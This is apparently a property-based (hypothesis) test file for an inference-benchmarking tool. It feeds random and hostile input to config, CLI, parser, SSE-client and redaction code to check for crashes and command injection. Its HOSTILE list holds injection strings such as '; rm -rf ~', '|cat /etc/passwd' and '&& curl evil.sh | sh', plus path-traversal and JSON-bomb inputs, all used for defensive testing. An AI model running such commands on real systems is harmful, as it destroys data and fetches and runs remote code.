"""Property-based tests (hypothesis): random and hostile input to every validator and
parser. Each property: no crash (only the module's own clear error), and no command
injection (a value that is accepted reaches an engine argv only as one literal item;
argv is never run through a shell, see tests/test_architecture.py)."""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import io
import json
import re
import shlex
import threading
import time
from pathlib import Path
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st

from core import cli
from core.config import ProbeSpec, RunSpec, parse_spec
from core.engines.base import EngineInfo
from core.engines.sglang import build_sglang_argv
from core.engines.sglang_log import LOG_FACT_KEYS, _parse
from core.engines.transformers_serve import (
    NOTE_CUDA_ABSENT,
    NOTE_MODEL_POSITIONAL,
    TransformersServeAdapter,
)
from core.errors import ConfigError, EngineUnavailable
from core.launch.forms import FORM_DEFAULTS, launch_from_form
from core.launch.host import HostInfo
from core.load.openai import json_loads
from core.load.prompts import Prompt
from core.load.requests import LoadOptions, one_request
from core.records import RequestRecord
from core.run import probe
from core.safety import REDACTED, model_path_problem, redact_argv, split_secrets

HOSTILE = [
    "; rm -rf ~",
    "$(rm -rf ~)",
    "`reboot`",
    "a\nb",
    "a\x00b",
    "--host=0.0.0.0",
    "-h",
    "../../etc/passwd",
    "/etc/shadow",
    "x" * 100_000,
    "' OR 1=1 --",
    "${HOME}",
    "\u202eevil",
    "модель",
    "🚀",
    "\r\n--api-key x",
    "a b",
    "--",
    "-",
    "",
    " ",
    "~root",
    "|cat /etc/passwd",
    "&& curl evil.sh | sh",
    "\\",
    "%s%n",
    "\t",
    "data: [DONE]",
    "~nosuchuser/models",
    "~/../../etc",
]
hostile = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=300))
FAST = settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
ROOTS = (Path("/models"), Path("/data"))
SHELL_CHARS = set(";$`|&<>(){}\n\r\x00 '\"\\*?[]!#~\t")


def _argvs(spec: RunSpec) -> list[list[str]]:
    """The argv each launching engine would build for this spec (when it builds one)."""
    out = []
    with contextlib.suppress(ConfigError, EngineUnavailable):
        out.append(build_sglang_argv(spec.server, 30000, "/py", "0.5.23", frozenset()))
    info = EngineInfo(
        "transformers",
        True,
        "5.24.0",
        options=frozenset({"--host", "--port", "--continuous-batching", "--device", "--dtype"}),
        notes=(NOTE_MODEL_POSITIONAL, NOTE_CUDA_ABSENT),
    )
    if spec.server.model != "smollm2-135m-instruct" and spec.server.engine == "transformers":
        with contextlib.suppress(ConfigError, EngineUnavailable):
            out.append(
                TransformersServeAdapter("/py", Path("/m"))
                .plan_launch(spec.server, 30000, info)
                .argv
                or []
            )
    return out


def _no_injection(spec: RunSpec, value: str) -> None:
    """An accepted value is never split, joined or interpreted: where it appears in an
    argv, it is one whole item (or the value of one ``--flag=value`` item)."""
    for argv in _argvs(spec):
        assert all(isinstance(a, str) and "\x00" not in a and "\n" not in a for a in argv)
        if value and SHELL_CHARS & set(value):
            hits = [a for a in argv if value in a]
            assert all(a == value or a.endswith("=" + value) for a in hits), (value, argv)
        # What is stored and shown as the command parses back to the same argv.
        assert shlex.split(shlex.join(redact_argv(argv))) == redact_argv(argv)


# --- core/config.py ---------------------------------------------------------------------------

FIELDS = [
    "server.model",
    "server.tokenizer",
    "server.endpoint_url",
    "server.host",
    "server.port",
    "server.device",
    "server.dtype",
    "server.attention_backend",
    "server.cuda_graph_max_bs",
    "server.mem_fraction_static",
    "server.tp_size",
    "server.startup_timeout_s",
    "plan.seed",
    "plan.request_timeout_s",
    "plan.point_timeout_s",
    "plan.warmup_requests",
    "note",
]
values = st.one_of(
    hostile, st.integers(), st.floats(), st.none(), st.booleans(), st.lists(hostile, max_size=3)
)


@FAST
@given(
    field=st.sampled_from(FIELDS),
    value=values,
    engine=st.sampled_from(["sglang", "transformers", "endpoint"]),
)
def test_config_accepts_or_names_the_field(field: str, value: Any, engine: str) -> None:
    data: dict[str, Any] = {"server": {"engine": engine, "model": "/models/m"}, "plan": {}}
    if engine == "endpoint":
        data["server"]["endpoint_url"] = "http://127.0.0.1:30000"
    group, _, name = field.rpartition(".")
    (data[group] if group else data)[name] = value
    try:
        spec = parse_spec(data)
    except ConfigError as exc:
        assert exc.field and exc.message  # a clear error naming a field
        return
    if isinstance(value, str):
        _no_injection(spec, value)


@FAST
@given(args=st.lists(hostile, max_size=6))
def test_extra_args_are_literal_argv_items_or_refused(args: list[str]) -> None:
    try:
        spec = parse_spec(
            {"server": {"engine": "sglang", "model": "/models/m", "extra_args": args}}
        )
    except ConfigError as exc:
        assert exc.field == "server.extra_args"
        return
    for item in args:  # what was accepted is harmless text, each one item
        assert not SHELL_CHARS & set(item.removesuffix("***"))
    for argv in _argvs(spec):
        assert argv[-len(args) :] == args if args else True


@FAST
@given(location=hostile)
def test_model_paths_are_confined(location: str) -> None:
    why = model_path_problem(location, ROOTS, must_exist=False)
    if why is None and location.startswith(("/", "~")):
        resolved = Path(location).expanduser().resolve()
        assert any(resolved.is_relative_to(r) for r in ROOTS), location
    for bad in ("/etc/passwd", "/models/../etc", "../models/x", "./x"):
        assert model_path_problem(bad, ROOTS, must_exist=False)


# --- core/launch/forms.py -------------------------------------------------------------------------

HOST = HostInfo(
    gpus=("0: H200",),
    engines={n: EngineInfo(n, True, "1.0") for n in ("transformers", "sglang", "endpoint")},
)
FORM_FIELDS = [k for k in FORM_DEFAULTS if k not in ("preset",)]


@FAST
@given(
    changes=st.dictionaries(
        st.sampled_from(FORM_FIELDS),
        st.one_of(hostile, st.integers(), st.none()),
        min_size=1,
        max_size=4,
    )
)
def test_launch_form_never_crashes(changes: dict[str, Any]) -> None:
    form = {**FORM_DEFAULTS, "engine": "sglang", "model": "/models/m", **changes}
    specs, errors = launch_from_form(form, HOST, model_roots=ROOTS)
    assert bool(specs) != bool(errors)
    assert all(isinstance(k, str) and isinstance(v, str) and v for k, v in errors.items())
    for spec in specs:
        for value in changes.values():
            if isinstance(value, str):
                _no_injection(spec, value)


# --- core/cli.py ------------------------------------------------------------------------------

RUN_FLAGS = [
    "--model",
    "--tokenizer",
    "--endpoint-url",
    "--port",
    "--device",
    "--dtype",
    "--tp-size",
    "--mem-fraction-static",
    "--attention-backend",
    "--extra-arg",
    "--concurrency",
    "--request-rate",
    "--num-prompts",
    "--input-len",
    "--output-len",
    "--seed",
    "--probe-prompt",
    "--probe-expect",
    "--tag",
    "--request-timeout-s",
    "--point-timeout-s",
    "--startup-timeout-s",
]


@FAST
@given(
    flag=st.sampled_from(RUN_FLAGS),
    value=hostile,
    engine=st.sampled_from(["sglang", "transformers"]),
)
def test_cli_run_arguments_parse_or_refuse(
    flag: str, value: str, engine: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SERVELAB_MODEL_ROOTS", "/models")
    argv = ["run", "--engine", engine, "--model", "/models/m", f"{flag}={value}"]
    try:
        with contextlib.redirect_stderr(io.StringIO()):
            ns = cli._parser().parse_args(argv)
    except SystemExit as exc:  # argparse: usage error, exit 2, message on stderr
        assert exc.code == 2
        return
    try:
        spec = cli.spec_from_args(ns)
    except ConfigError as exc:
        assert exc.field and exc.message
        return
    _no_injection(spec, value)


@FAST
@given(command=st.sampled_from(["show", "cancel"]), run_id=hostile)
def test_cli_run_ids_stay_inside_the_runs_folder(
    command: str, run_id: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SERVELAB_DATA_DIR", str(tmp_path / "data"))
    assume(not run_id.startswith("-"))  # that is an option to argparse, not a run id
    err = io.StringIO()
    try:
        with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
            code = cli.main([command, run_id])
    except SystemExit as exc:
        code = exc.code
    assert code == 2  # no such run (or not a run id): a usage error, never a traceback
    with contextlib.suppress(argparse.ArgumentTypeError):
        cli._run_id(run_id)
        assert "/" not in run_id and ".." not in run_id


# --- core/engines/sglang_log.py -------------------------------------------------------------------

FIXTURE_LOG = sorted((Path(__file__).parent / "fixtures" / "sglang-logs").glob("*.log"))[0]


@FAST
@given(junk=st.lists(hostile, max_size=8), at=st.integers(0, 400))
def test_log_parser_never_raises(junk: list[str], at: int) -> None:
    lines = FIXTURE_LOG.read_text(errors="replace").splitlines()
    lines[at:at] = junk
    facts = _parse("\n".join(lines))  # the parser itself, without its safety net
    assert set(LOG_FACT_KEYS) <= set(facts)
    assert set(LOG_FACT_KEYS) <= set(_parse("\n".join(junk)))


# --- core/load/requests.py + openai.py: the SSE stream ------------------------------------------

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | hostile,
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(
                [
                    "choices",
                    "delta",
                    "content",
                    "usage",
                    "error",
                    "finish_reason",
                    "prompt_tokens",
                    "completion_tokens",
                    "x",
                ]
            ),
            inner,
            max_size=4,
        )
    ),
    max_leaves=12,
)
sse_lines = st.one_of(
    json_values.map(lambda v: "data: " + json.dumps(v)),
    hostile.map(lambda t: "data: " + t),
    hostile,
    st.just("data: [DONE]"),
    st.just('data: {"choices":[{"delta":{"content":"hi"},"finish_reason":"stop"}]}'),
)


@FAST
@given(
    lines=st.lists(sse_lines, max_size=8),
    status=st.sampled_from([200, 200, 500, 401]),
    parser=st.sampled_from(["auto", "json"]),
)
def test_sse_parser_turns_anything_into_a_record(
    lines: list[str], status: int, parser: str
) -> None:
    body = "\n".join(lines).encode("utf-8", "surrogatepass")

    async def chunks() -> Any:
        for i in range(0, len(body), 37):  # arbitrary network reads
            yield body[i : i + 37]

    def handler(_req: httpx.Request) -> httpx.Response:
        return httpx.Response(status, content=chunks())

    opts = LoadOptions(
        base_url="http://test",
        model="m",
        concurrency=1,
        request_rate=float("inf"),
        seed=0,
        exact_length_body={},
        request_timeout_s=5,
        point_timeout_s=5,
    )
    rec = RequestRecord(index=0, send_s=0.0, prompt_tokens=1, output_tokens_requested=4)

    async def go() -> None:
        async with httpx.AsyncClient(
            base_url="http://test", transport=httpx.MockTransport(handler)
        ) as client:
            await one_request(
                client, opts, rec, Prompt("hi", 1, 4), time.perf_counter(), json_loads(parser)[0]
            )

    asyncio.run(go())
    assert rec.ok or (isinstance(rec.error, str) and rec.error)
    assert rec.ok is False or rec.chunk_s  # success means content arrived
    for n in (rec.prompt_tokens_server, rec.output_tokens_server):
        assert n is None or (isinstance(n, int) and n >= 0)


# --- core/run/probe.py ----------------------------------------------------------------------------


@FAST
@given(
    body=st.one_of(json_values.map(json.dumps), hostile),
    expect=st.sampled_from([None, "(?i)paris", "x+"]),
)
@example(body="[" * 5000, expect=None)  # a JSON bomb
@example(
    body='data: {"choices": [{"delta": {"content": "Paris"}}]}\n\ndata: [DONE]\n\n',
    expect="(?i)paris",
)
@example(body="data: " + "[" * 5000 + "\n\n", expect=None)  # a bomb in a stream
@example(body='data: {"choices": 7}\n\ndata: {"choices": [{"delta": "x"}]}\n\n', expect="x+")
def test_probe_judges_any_answer(
    body: str, expect: str | None, monkeypatch: pytest.MonkeyPatch
) -> None:
    kind = "text/event-stream" if body.startswith("data:") else "application/json"
    monkeypatch.setattr(
        probe.httpx,
        "stream",
        lambda *_a, **_k: contextlib.nullcontext(
            httpx.Response(200, text=body, headers={"content-type": kind})
        ),
    )
    result = probe.run_probe("http://test", "m", ProbeSpec(expect=expect))
    assert isinstance(result.passed, bool) and result.reason
    if result.passed:
        assert result.answer.strip()


# --- secrets ----------------------------------------------------------------------------------


@FAST
@given(
    before=st.lists(hostile, max_size=3),
    key=st.text(min_size=4, max_size=60).filter(
        lambda k: not k.startswith("-") and REDACTED not in k
    ),
    equals=st.booleans(),
)
def test_secrets_never_survive_redaction(before: list[str], key: str, equals: bool) -> None:
    argv = [*before, *([f"--api-key={key}"] if equals else ["--api-key", key])]
    shown = redact_argv(argv)
    assert shown[-1].endswith(REDACTED) and key not in shown[-1]
    stored, hidden = split_secrets(argv)
    assert list(stored) == shown and argv[-1] in hidden.values()


# --- core/interop/importers: files people upload -------------------------------------------------

BENCH_TABLE = Path(__file__).parent / "fixtures" / "bench-outputs"


@FAST
@given(
    junk=st.lists(hostile, max_size=6), at=st.integers(0, 60), name=hostile, pick=st.integers(0, 50)
)
def test_importers_read_anything_without_crashing(
    junk: list[str], at: int, name: str, pick: int, tmp_path_factory: Any
) -> None:
    from core.interop.importers import parse_text, plan_runs, safe_name
    from core.settings import Settings

    samples = sorted(p for p in BENCH_TABLE.glob("*") if p.is_file())
    text = samples[pick % len(samples)].read_text(errors="replace") if samples else ""
    lines = text.splitlines()
    lines[at:at] = junk
    parsed = parse_text("\n".join(lines), name)  # documented: never raises
    settings_ = Settings(
        data_dir=Path("/nonexistent/servelab"), sglang_python="py", transformers_python="py"
    )
    for run in plan_runs(parsed, settings_):
        assert re.fullmatch(r"imp-[0-9a-f]{12}", run.run_id)
    clean = safe_name(name)
    assert clean and "/" not in clean and "\\" not in clean and clean not in (".", "..")
    assert "\x00" not in clean and "\n" not in clean


def test_engine_flags_only_from_the_option_list() -> None:
    from core.config import ServerConfig

    known = frozenset({"--max-running-requests", "--api-key", "--enable-metrics"})

    def argv(*extra: str) -> list[str]:
        cfg = ServerConfig(engine="sglang", model="/models/m", extra_args=extra)
        return build_sglang_argv(cfg, 30000, "/py", "0.5.23", known)

    assert argv("--max-running-requests", "-1")[-2:] == ["--max-running-requests", "-1"]
    for bad, words in (
        ("-h", "short option"),
        ("--no-such", "unknown to SGLang"),
        ("--port=1", "set by ServeLab"),
        ("--", "unknown"),
    ):
        with pytest.raises(ConfigError, match=words) as info:
            argv(bad)
        assert info.value.field == "server.extra_args"


# --- core/load/sse_client.py: the raw HTTP/1.1 + SSE client (plain http:// streams) ------------

DEEP = "data: " + "[" * 5000  # a hostile server's JSON bomb (past the recursion limit)


def _chunked(body: bytes, size: int) -> bytes:
    pieces = [body[i : i + size] for i in range(0, len(body), size)]
    return b"".join(b"%X\r\n%s\r\n" % (len(p), p) for p in pieces) + b"0\r\n\r\n"


raw_responses = st.one_of(
    # a well-formed chunked SSE response carrying hostile events
    st.tuples(st.lists(st.one_of(sse_lines, st.just(DEEP)), max_size=6), st.integers(1, 64)).map(
        lambda t: (
            b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n"
            b"Transfer-Encoding: chunked\r\n\r\n"
            + _chunked("\n\n".join(t[0]).encode("utf-8", "surrogatepass"), t[1])
        )
    ),
    # hostile status lines, headers and bodies
    st.tuples(
        st.sampled_from([b"HTTP/1.1 200 OK", b"HTTP/1.1 500 Oops", b"HTTP/9 x", b"garbage", b""]),
        st.lists(
            st.sampled_from(
                [
                    b"Content-Length: 5",
                    b"Content-Length: -1",
                    b"Content-Length: x",
                    b"Transfer-Encoding: chunked",
                    b"Connection: close",
                    b"X: \xff\xfe",
                ]
            ),
            max_size=3,
        ),
        st.binary(max_size=300),
    ).map(lambda t: t[0] + b"\r\n" + b"".join(h + b"\r\n" for h in t[1]) + b"\r\n" + t[2]),
    st.binary(max_size=500),
)


@FAST
@given(response=raw_responses)
@example(b"HTTP/1.1 200 OK\r\nContent-Length: -1\r\n\r\nabc")  # spun forever
@example(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n-5\r\nab")  # same
@example(
    b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
    + _chunked((DEEP + "\n\n").encode(), 64)
)  # RecursionError in the event loop
def test_raw_sse_client_turns_any_server_bytes_into_a_record(response: bytes) -> None:
    from core.load.requests import one_request_raw
    from core.load.sse_client import SSEConnectionPool

    async def go() -> RequestRecord:
        async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            with contextlib.suppress(Exception):
                await reader.readuntil(b"\r\n\r\n")
                writer.write(response)
                await writer.drain()
            writer.close()

        server = await asyncio.start_server(serve, "127.0.0.1", 0)
        port = server.sockets[0].getsockname()[1]
        pool = SSEConnectionPool(f"http://127.0.0.1:{port}")
        opts = LoadOptions(
            base_url=f"http://127.0.0.1:{port}",
            model="m",
            concurrency=1,
            request_rate=float("inf"),
            seed=0,
            exact_length_body={},
            request_timeout_s=5,
            point_timeout_s=5,
        )
        rec = RequestRecord(index=0, send_s=0.0, prompt_tokens=1, output_tokens_requested=4)
        try:
            await asyncio.wait_for(
                one_request_raw(
                    pool, opts, rec, Prompt("hi", 1, 4), time.perf_counter(), json_loads()[0]
                ),
                5,
            )
        finally:
            pool.close()
            server.close()
            await server.wait_closed()
        return rec

    # In a thread: a parser that spins blocks its event loop, so no asyncio timeout fires.
    done: list[RequestRecord] = []
    runner = threading.Thread(target=lambda: done.append(asyncio.run(go())), daemon=True)
    runner.start()
    runner.join(15)
    assert not runner.is_alive(), f"the client hangs on {response[:80]!r}"
    (rec,) = done
    assert rec.ok or (isinstance(rec.error, str) and rec.error)
    assert rec.ok is False or rec.chunk_s
